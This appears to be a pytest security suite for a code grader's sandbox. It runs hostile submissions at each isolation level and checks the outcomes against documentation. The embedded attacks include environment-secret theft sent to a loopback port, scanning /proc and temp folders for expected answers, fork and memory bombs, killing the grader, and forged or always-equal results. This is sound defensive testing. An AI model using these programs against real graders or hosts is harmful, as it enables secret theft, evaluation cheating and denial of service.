"""Hostile programs against the grader (issue 3, item 5; issue 12), at every isolation
level this machine gives.

Every attack is graded as an answer to a problem whose expected output is a random
token it cannot compute (also planted on disk, world-readable, in the host's temp
folder, as a problems table would be), so passing would prove a leak. All attacks run
together, in parallel, as in real grading. Which attacks each level stops is the table
in docs/security.md ("What each level stops"): the test reads it and checks every cell
both ways, stopped and not stopped. Afterwards: no process left, the secret found
nowhere, the grader still healthy.
"""

import json
import os
import secrets
import shutil
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import psutil
import pytest

from _sandbox_fixtures import LoopbackServer

from p3 import storage
from p3.sandbox import LEVELS, Job, Limits, Sandbox, sandbox_python
from p3.verify import apps as vapps

TOKEN = "P3TOK" + secrets.token_hex(16)  # the expected output: unguessable
SECRET = "P3SECRET" + secrets.token_hex(16)  # in the grader's environment
ANSWER_INT = secrets.randbelow(10**15) + 10**15  # expected call-based return value
TIMEOUT = 1.0
WORKERS = 2


def attacks(canary: str, port: int, grader_pid: int, exfil_port: int = 1) -> dict:
    """name -> (code, call_based, allowed run statuses); no attack may pass its test."""
    canary_dir = os.path.dirname(canary)
    exfiltrate = f"""
import os, socket, glob
found = [os.environ.get(k, '') for k in os.environ]
for path in ['/proc/1/environ', '/proc/self/environ', '/proc/%d/environ' % os.getppid(), '/proc/{grader_pid}/environ'] + glob.glob('/proc/*/environ'):
    try:
        found.append(open(path, 'rb').read().decode('latin-1'))
    except OSError:
        pass
blob = '\\n'.join(found)
for path in ['leak', '/tmp/p3-leak', '/dev/shm/leak', '/var/tmp/p3-leak', {canary_dir!r} + '/leak', '/code/leak']:
    try:
        open(path, 'w').write(blob)
    except OSError:
        pass
try:
    socket.create_connection(('127.0.0.1', {exfil_port}), timeout=0.5).sendall(blob.encode())
except OSError:
    pass
print(blob)
"""
    read_expected = f"""
import os, re, glob, sys
pat = re.compile(rb'P3TOK[0-9a-f]{{32}}')
seen = set()
def found(data):
    m = pat.search(data)
    if m:
        print(m.group().decode())
        sys.exit(0)
def scan(path, depth):  # a file, or a folder's newest entries first (fresh tables and artifacts)
    if path in seen:
        return
    seen.add(path)
    try:
        if os.path.isfile(path):
            with open(path, 'rb') as fh:
                found(fh.read(1 << 22))
        elif depth and os.path.isdir(path):
            names = sorted(os.listdir(path), key=lambda n: -os.lstat(os.path.join(path, n)).st_mtime)
            for name in names[:300]:
                scan(os.path.join(path, name), depth - 1)
    except OSError:
        pass
def cmdline_paths(f):
    try:
        args = open(f, 'rb').read().split(b'\\0')
    except OSError:
        return
    for arg in args:
        found(arg)
        if arg.startswith(b'/'):
            scan(arg.decode(), 1)
# 1. the parents' command lines (the parent may be a keeper: up to the grader), and what they name
pid = os.getppid()
for _ in range(8):
    if pid <= 1:
        break
    cmdline_paths('/proc/%d/cmdline' % pid)
    try:
        pid = int(open('/proc/%d/stat' % pid).read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
cmdline_paths('/proc/{grader_pid}/cmdline')
# 2. the temp folders, newest first; 3. whatever any other process names
for d in ('/tmp', '/var/tmp', '/dev/shm'):
    scan(d, 2)
for f in glob.glob('/proc/*/cmdline'):
    cmdline_paths(f)
print('nothing')
"""
    return {
        "infinite_loop": ("while True:\n    pass\n", False, {"timeout"}),
        "sleep": ("import time\ntime.sleep(60)\n", False, {"timeout"}),
        "blocking_read": ("import os\nr, w = os.pipe()\nos.read(r, 1)\n", False, {"timeout"}),
        "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", False,
                      {"timeout"}),
        "multiprocessing_bomb": (
            "import multiprocessing as mp\ndef spin():\n    while True:\n        pass\n"
            "if __name__ == '__main__':\n    ps = []\n    for _ in range(1000):\n        try:\n"
            "            p = mp.Process(target=spin)\n            p.start()\n            ps.append(p)\n"
            "        except OSError:\n            pass\n    for p in ps:\n        p.join()\n",
            False, {"timeout", "runtime_error"}),
        "memory_bomb": ("a = []\nwhile True:\n    a.append(bytearray(10**7))\n", False, {"memory_limit", "timeout"}),
        "ten_gb_file": (
            "b = b'x' * (1 << 20)\nfor path in ('/tmp/big', '/dev/shm/big', 'big'):\n    try:\n"
            "        with open(path, 'wb') as f:\n            for _ in range(10240):\n                f.write(b)\n"
            "    except OSError:\n        pass\nwith open('big2', 'wb') as f:\n    for _ in range(10240):\n        f.write(b)\n",
            False, {"output_limit"}),
        "endless_output": ("while True:\n    print('x' * 1000)\n", False, {"output_limit"}),
        "endless_stderr": ("import sys\nwhile True:\n    sys.stderr.write('y' * 1000)\n", False, {"output_limit"}),
        "delete_canary": (
            f"import os, shutil\nfor f in (lambda: os.remove({canary!r}), lambda: shutil.rmtree({canary_dir!r}),\n"
            f"          lambda: open({canary!r}, 'w').write('pwned'), lambda: os.chmod({canary!r}, 0)):\n"
            "    try:\n        f()\n    except OSError:\n        pass\nprint('done')\n",
            False, {"ok"}),
        "steal_secret": (exfiltrate, False, {"ok"}),
        "loopback_socket": (
            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=1)\ns.sendall(b'hello')\n",
            False, {"runtime_error"}),
        "kill_parent": (
            f"import os, signal\nfor pid in (os.getppid(), {grader_pid}, 1):\n    try:\n        os.kill(pid, 9)\n"
            "    except OSError:\n        pass\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass\nos.killpg(0, 9)\n",
            False, {"runtime_error", "timeout", "ok"}),
        "sys_exit_before_print": ("import sys\nsys.exit(0)\nprint('x')\n", False, {"ok"}),
        "os_exit_before_print": ("import os\nos._exit(0)\n", False, {"ok"}),
        "read_expected_outputs": (read_expected, False, {"ok", "timeout"}),  # a long search may time out
        "ignore_signals_patch_builtins": (
            "import signal, builtins\nfor s in (signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(0)\nbuiltins.print = lambda *a, **k: None\n"
            "builtins.open = None\nwhile True:\n    pass\n",
            False, {"timeout"}),
        "ctypes_segfault": ("import ctypes\nctypes.string_at(0)\n", False, {"runtime_error"}),
        "libc_fork": ("import ctypes\nlibc = ctypes.CDLL(None)\nwhile True:\n    libc.fork()\n", False, {"timeout"}),
        "posix_fork": ("import posix\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
                       False, {"timeout"}),
        "setsid_double_fork": (
            f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(30)\n"
            f"        open({canary!r}, 'w').write('late')\n    os._exit(0)\nprint('parent done')\n",
            False, {"ok"}),
        "spinning_thread": (
            "import threading\ndef spin():\n    while True:\n        pass\nthreading.Thread(target=spin).start()\nprint('x')\n",
            False, {"timeout"}),
        "million_open_files": ("fs = []\nfor _ in range(10**6):\n    fs.append(open('/dev/null'))\n", False, {"runtime_error"}),
        "deep_recursion": ("import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n", False,
                           {"runtime_error", "memory_limit", "timeout"}),
        # call-based: answers are compared in the parent, from JSON
        "always_equal_object": (
            "class Eq:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
            "    __hash__ = object.__hash__\ndef solve(x):\n    return Eq()\n",
            True, {"runtime_error"}),
        "always_equal_list": (
            "class L(list):\n    def __eq__(self, other):\n        return True\ndef solve(x):\n    return L()\n",
            True, {"ok"}),  # runs fine; its answer, [], is wrong
        "forged_result_and_patched_json": (
            "import os, json, builtins\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'[1]')\n    except OSError:\n        pass\n"
            "json.dumps = lambda *a, **k: '\"forged\"'\nbuiltins.isinstance = lambda *a: True\n"
            "def solve(x):\n    return x\n",
            True, {"ok", "runtime_error"}),
    }


DOCS = Path(__file__).resolve().parents[1] / "docs" / "security.md"


def documented_outcomes() -> dict:
    """docs/security.md's table "What each level stops": attack -> {level: stopped?}."""
    text = DOCS.read_text().split("### What each level stops", 1)[1]
    text = text.split("\n#", 1)[0]  # that section only: later tables (egress rules) are not attacks
    rows = [line for line in text.splitlines() if line.startswith("| `")]
    header = next(line for line in text.splitlines() if line.startswith("| attack"))
    levels = [c.strip() for c in header.strip("|").split("|")][1:]
    table = {}
    for line in rows:
        cells = [c.strip().strip("*") for c in line.strip().strip("|").split("|")]
        table[cells[0].strip("`")] = {lv: cell == "stopped" for lv, cell in zip(levels, cells[1:])}
    return table


@pytest.fixture(scope="module", params=LEVELS)
def level(request):
    level = request.param
    if level != "bwrap" and os.geteuid() != 0:
        pytest.skip(f"level {level} with a non-root grader runs programs as the test itself: they could kill it")
    try:
        Sandbox(workers=1, isolation=level, allow_weak=True).close()
    except RuntimeError as exc:
        pytest.skip(f"isolation level {level} unavailable here: {exc}")
    return level


@pytest.fixture(scope="module")
def host(level):
    """A world-writable canary outside the temp folders (/run when root), the expected
    output in a world-readable file in the host's temp folder, a secret in the grader's
    environment, and two loopback servers (one for the socket attack, one for the thief)."""
    base = "/run" if os.access("/run", os.W_OK) else None
    canary_dir = tempfile.mkdtemp(prefix="p3-canary-", dir=base)
    os.chmod(canary_dir, 0o777)  # only isolation, not permissions, may protect it
    canary = os.path.join(canary_dir, "canary.txt")
    Path(canary).write_text("canary\n")
    os.chmod(canary, 0o666)
    table_dir = tempfile.mkdtemp(prefix="p3-problems-")
    os.chmod(table_dir, 0o755)
    Path(table_dir, "tests.json").write_text(json.dumps({"outputs": [TOKEN]}))
    os.chmod(Path(table_dir, "tests.json"), 0o644)
    old = os.environ.get("P3_GRADER_SECRET")
    os.environ["P3_GRADER_SECRET"] = SECRET
    server, exfil = LoopbackServer(), LoopbackServer()
    yield {"canary": canary, "server": server, "exfil": exfil}
    server.close()
    exfil.close()
    if old is None:
        os.environ.pop("P3_GRADER_SECRET", None)
    shutil.rmtree(canary_dir, ignore_errors=True)
    shutil.rmtree(table_dir, ignore_errors=True)


@pytest.fixture(scope="module")
def sandbox(level, host):
    sb = Sandbox(workers=WORKERS, limits=Limits(timeout=TIMEOUT), isolation=level, allow_weak=level != "bwrap")
    assert sb.level == level
    return sb


@pytest.fixture(scope="module")
def suite(host, sandbox):
    """Run every attack once, in parallel; name -> (RunResult, test status, allowed run statuses)."""
    table = attacks(host["canary"], host["server"].port, os.getpid(), host["exfil"].port)
    jobs = []
    for code, call_based, _ in table.values():
        jobs.append(Job(code, fn_name="solve", args=[7]) if call_based else Job(code, stdin="1 2\n"))
    start, started_at = time.monotonic(), time.time()
    results = sandbox.run_many(jobs)
    took = time.monotonic() - start
    out = {}
    for (name, (code, call_based, allowed)), res in zip(table.items(), results):
        expected = [ANSWER_INT] if call_based else TOKEN + "\n"
        out[name] = (res, vapps.test_status(res, expected, call_based), allowed)
    out["_took"], out["_started_at"] = took, started_at
    return out


ATTACKS = list(attacks("/x/c", 1, 1))


def host_effects(name: str, host: dict) -> list[str]:
    """What an attack did outside its sandbox, where it aims at more than its verdict."""
    canary = Path(host["canary"])
    if name == "delete_canary":
        intact = canary.exists() and canary.read_text() == "canary\n" and stat.S_IMODE(canary.stat().st_mode) == 0o666
        return [] if intact else ["the canary was changed"]
    if name == "loopback_socket":
        return [f"{host['server'].connections} connection(s) to the host"] if host["server"].connections else []
    if name == "steal_secret":
        return ["the secret reached the host's server"] if SECRET.encode() in host["exfil"].received else []
    if name == "ten_gb_file":
        return [p for p in ("/tmp/big", "/dev/shm/big") if os.path.exists(p)]
    return []


def stopped(suite, host, name) -> tuple[bool, str]:
    res, status, allowed = suite[name]
    why = [f"passed its test ({res.stdout[:80]!r})"] if status == "ok" else []
    why += [f"run status {res.status}, not one of {sorted(allowed)}"] if res.status not in allowed else []
    why += ["printed the expected output"] if TOKEN in res.stdout else []
    return not (why + host_effects(name, host)), "; ".join(why + host_effects(name, host))


def test_the_docs_table_covers_every_attack_at_every_level():
    table = documented_outcomes()
    assert set(table) == set(ATTACKS)
    assert all(set(row) == set(LEVELS) for row in table.values())
    assert all(row["bwrap"] for row in table.values())  # full isolation stops everything


@pytest.mark.parametrize("name", ATTACKS)
def test_each_level_stops_what_the_docs_say(suite, host, level, name):
    ok, why = stopped(suite, host, name)
    assert ok == documented_outcomes()[name][level], \
        f"{name} at {level}: {why or 'stopped'}; stderr: {suite[name][0].stderr[-300:]}"


def test_nothing_leaked_into_the_sandbox(suite):
    for name in ATTACKS:
        res = suite[name][0]
        assert SECRET not in res.stdout and SECRET not in res.stderr, name


def test_suite_wall_time_is_bounded(suite):
    # every run ends at its limit: n attacks × timeout / workers, plus start-up slack
    assert suite["_took"] < len(ATTACKS) * (TIMEOUT + 1.0) / WORKERS + 10


def _sandbox_processes(sb: Sandbox, since: float) -> list:
    """Processes of the sandbox uids (root grader), and any descendant of this test
    process started during the suite (other than the math-verify workers)."""
    uids = set(sb.uids)
    left = [p for p in psutil.process_iter(["uids"]) if p.info["uids"] and p.info["uids"].real in uids]
    for p in psutil.Process().children(recursive=True):
        try:
            if p.create_time() >= since - 1 and "p3.verify.math" not in " ".join(p.cmdline()):
                left.append(p)
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            pass
    return left


def test_zz_host_untouched_after_the_suite(suite, host, sandbox):
    # no process left (not even a zombie): give the kernel a moment to tear namespaces down
    deadline = time.monotonic() + 10  # a loaded host tears namespaces down slowly
    while _sandbox_processes(sandbox, suite["_started_at"]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _sandbox_processes(sandbox, suite["_started_at"]) == []
    # the secret went nowhere: not over the network, not into any file we can find
    assert SECRET.encode() not in host["server"].received + host["exfil"].received
    for root in ("/tmp", "/dev/shm", "/var/tmp", os.path.dirname(host["canary"])):
        for dirpath, _, files in os.walk(root):
            for f in files:
                path = os.path.join(dirpath, f)
                try:
                    if os.path.getsize(path) < (8 << 20):
                        assert SECRET.encode() not in Path(path).read_bytes(), path
                except OSError:
                    pass
    assert not os.path.exists("/tmp/big") and not os.path.exists("/tmp/p3-leak")  # swept below bwrap
    # the grader is still healthy
    ok = vapps.grade_program(sandbox, "print(int(input()) + 1)", json.dumps({"inputs": ["1\n"], "outputs": ["2\n"]}))
    assert ok["passed"] is True


def test_reading_graders_files_works_without_isolation_and_not_with_it(tmp_path):
    """The /proc/<ppid>/cmdline attack against `p3 grade` itself: it finds the expected
    output in the grader's files when isolation is off (so the attack is real), and
    nothing at the other levels. Below bwrap `p3 grade` refuses unless told otherwise,
    and the results record the level the programs ran at."""
    work = Path(tempfile.mkdtemp(prefix="p3-grader-files-"))
    try:
        os.chmod(work, 0o755)  # a typical world-readable output folder
        tests = json.dumps({"inputs": ["1 2\n"], "outputs": [TOKEN + "\n"]})
        import pyarrow as pa

        problems = pa.table({"id": ["apps-1"], "task": ["apps"], "prompt": ["p"], "solution": [""],
                             "answer": pa.array([None], pa.string()), "tests": [tests],
                             "starter_code": pa.array([None], pa.string()), "meta": ["{}"]})
        storage.write_table(problems, work / "problems.parquet")
        code = attacks("/nonexistent/c", 1, 1)["read_expected_outputs"][0]
        (work / "c.jsonl").write_text(json.dumps({"id": "apps-1", "sample": 0, "completion": code}) + "\n")
        for f in work.iterdir():
            os.chmod(f, 0o644)

        def grade(level, *extra):
            out = work / f"results-{level}.parquet"
            proc = subprocess.run([sys.executable, "-m", "p3.cli", "grade", "--problems", str(work / "problems.parquet"),
                                   "--completions", str(work / "c.jsonl"), "--out", str(out), "--isolation", level,
                                   "--timeout", "5", "--workers", "1", *extra],
                                  capture_output=True, text=True, timeout=120,
                                  env={**os.environ, "P3_SANDBOX_PYTHON": sandbox_python()})
            return proc, out

        passed = {}
        for level in ("none", "unshare", "bwrap"):
            try:
                Sandbox(workers=1, isolation=level, allow_weak=True).close()
            except RuntimeError:
                continue  # not on this machine
            if level != "bwrap":  # refused by default, before any program ran: no results
                proc, out = grade(level)
                assert proc.returncode == 1 and not out.exists(), proc.stderr
                assert f"isolation proven here is '{level}'" in proc.stderr and "--allow-weak-isolation" in proc.stderr
            proc, out = grade(level, *(["--allow-weak-isolation"] if level != "bwrap" else []))
            assert proc.returncode == 0, proc.stderr
            if level != "bwrap":
                assert "SANDBOX ISOLATION IS WEAK" in proc.stderr  # said loudly
            row = storage.read_table(out).to_pylist()[0]
            assert row["isolation"] == level
            passed[level] = row["passed"]
        # the files are world-readable (0644), so whoever the program runs as can read them
        assert passed["none"] is True, "the attack should work without isolation (else this test proves nothing)"
        assert not any(passed.get(level) for level in ("unshare", "bwrap"))
        assert len(passed) > 1, "only level none here: nothing to compare with"
    finally:
        shutil.rmtree(work, ignore_errors=True)
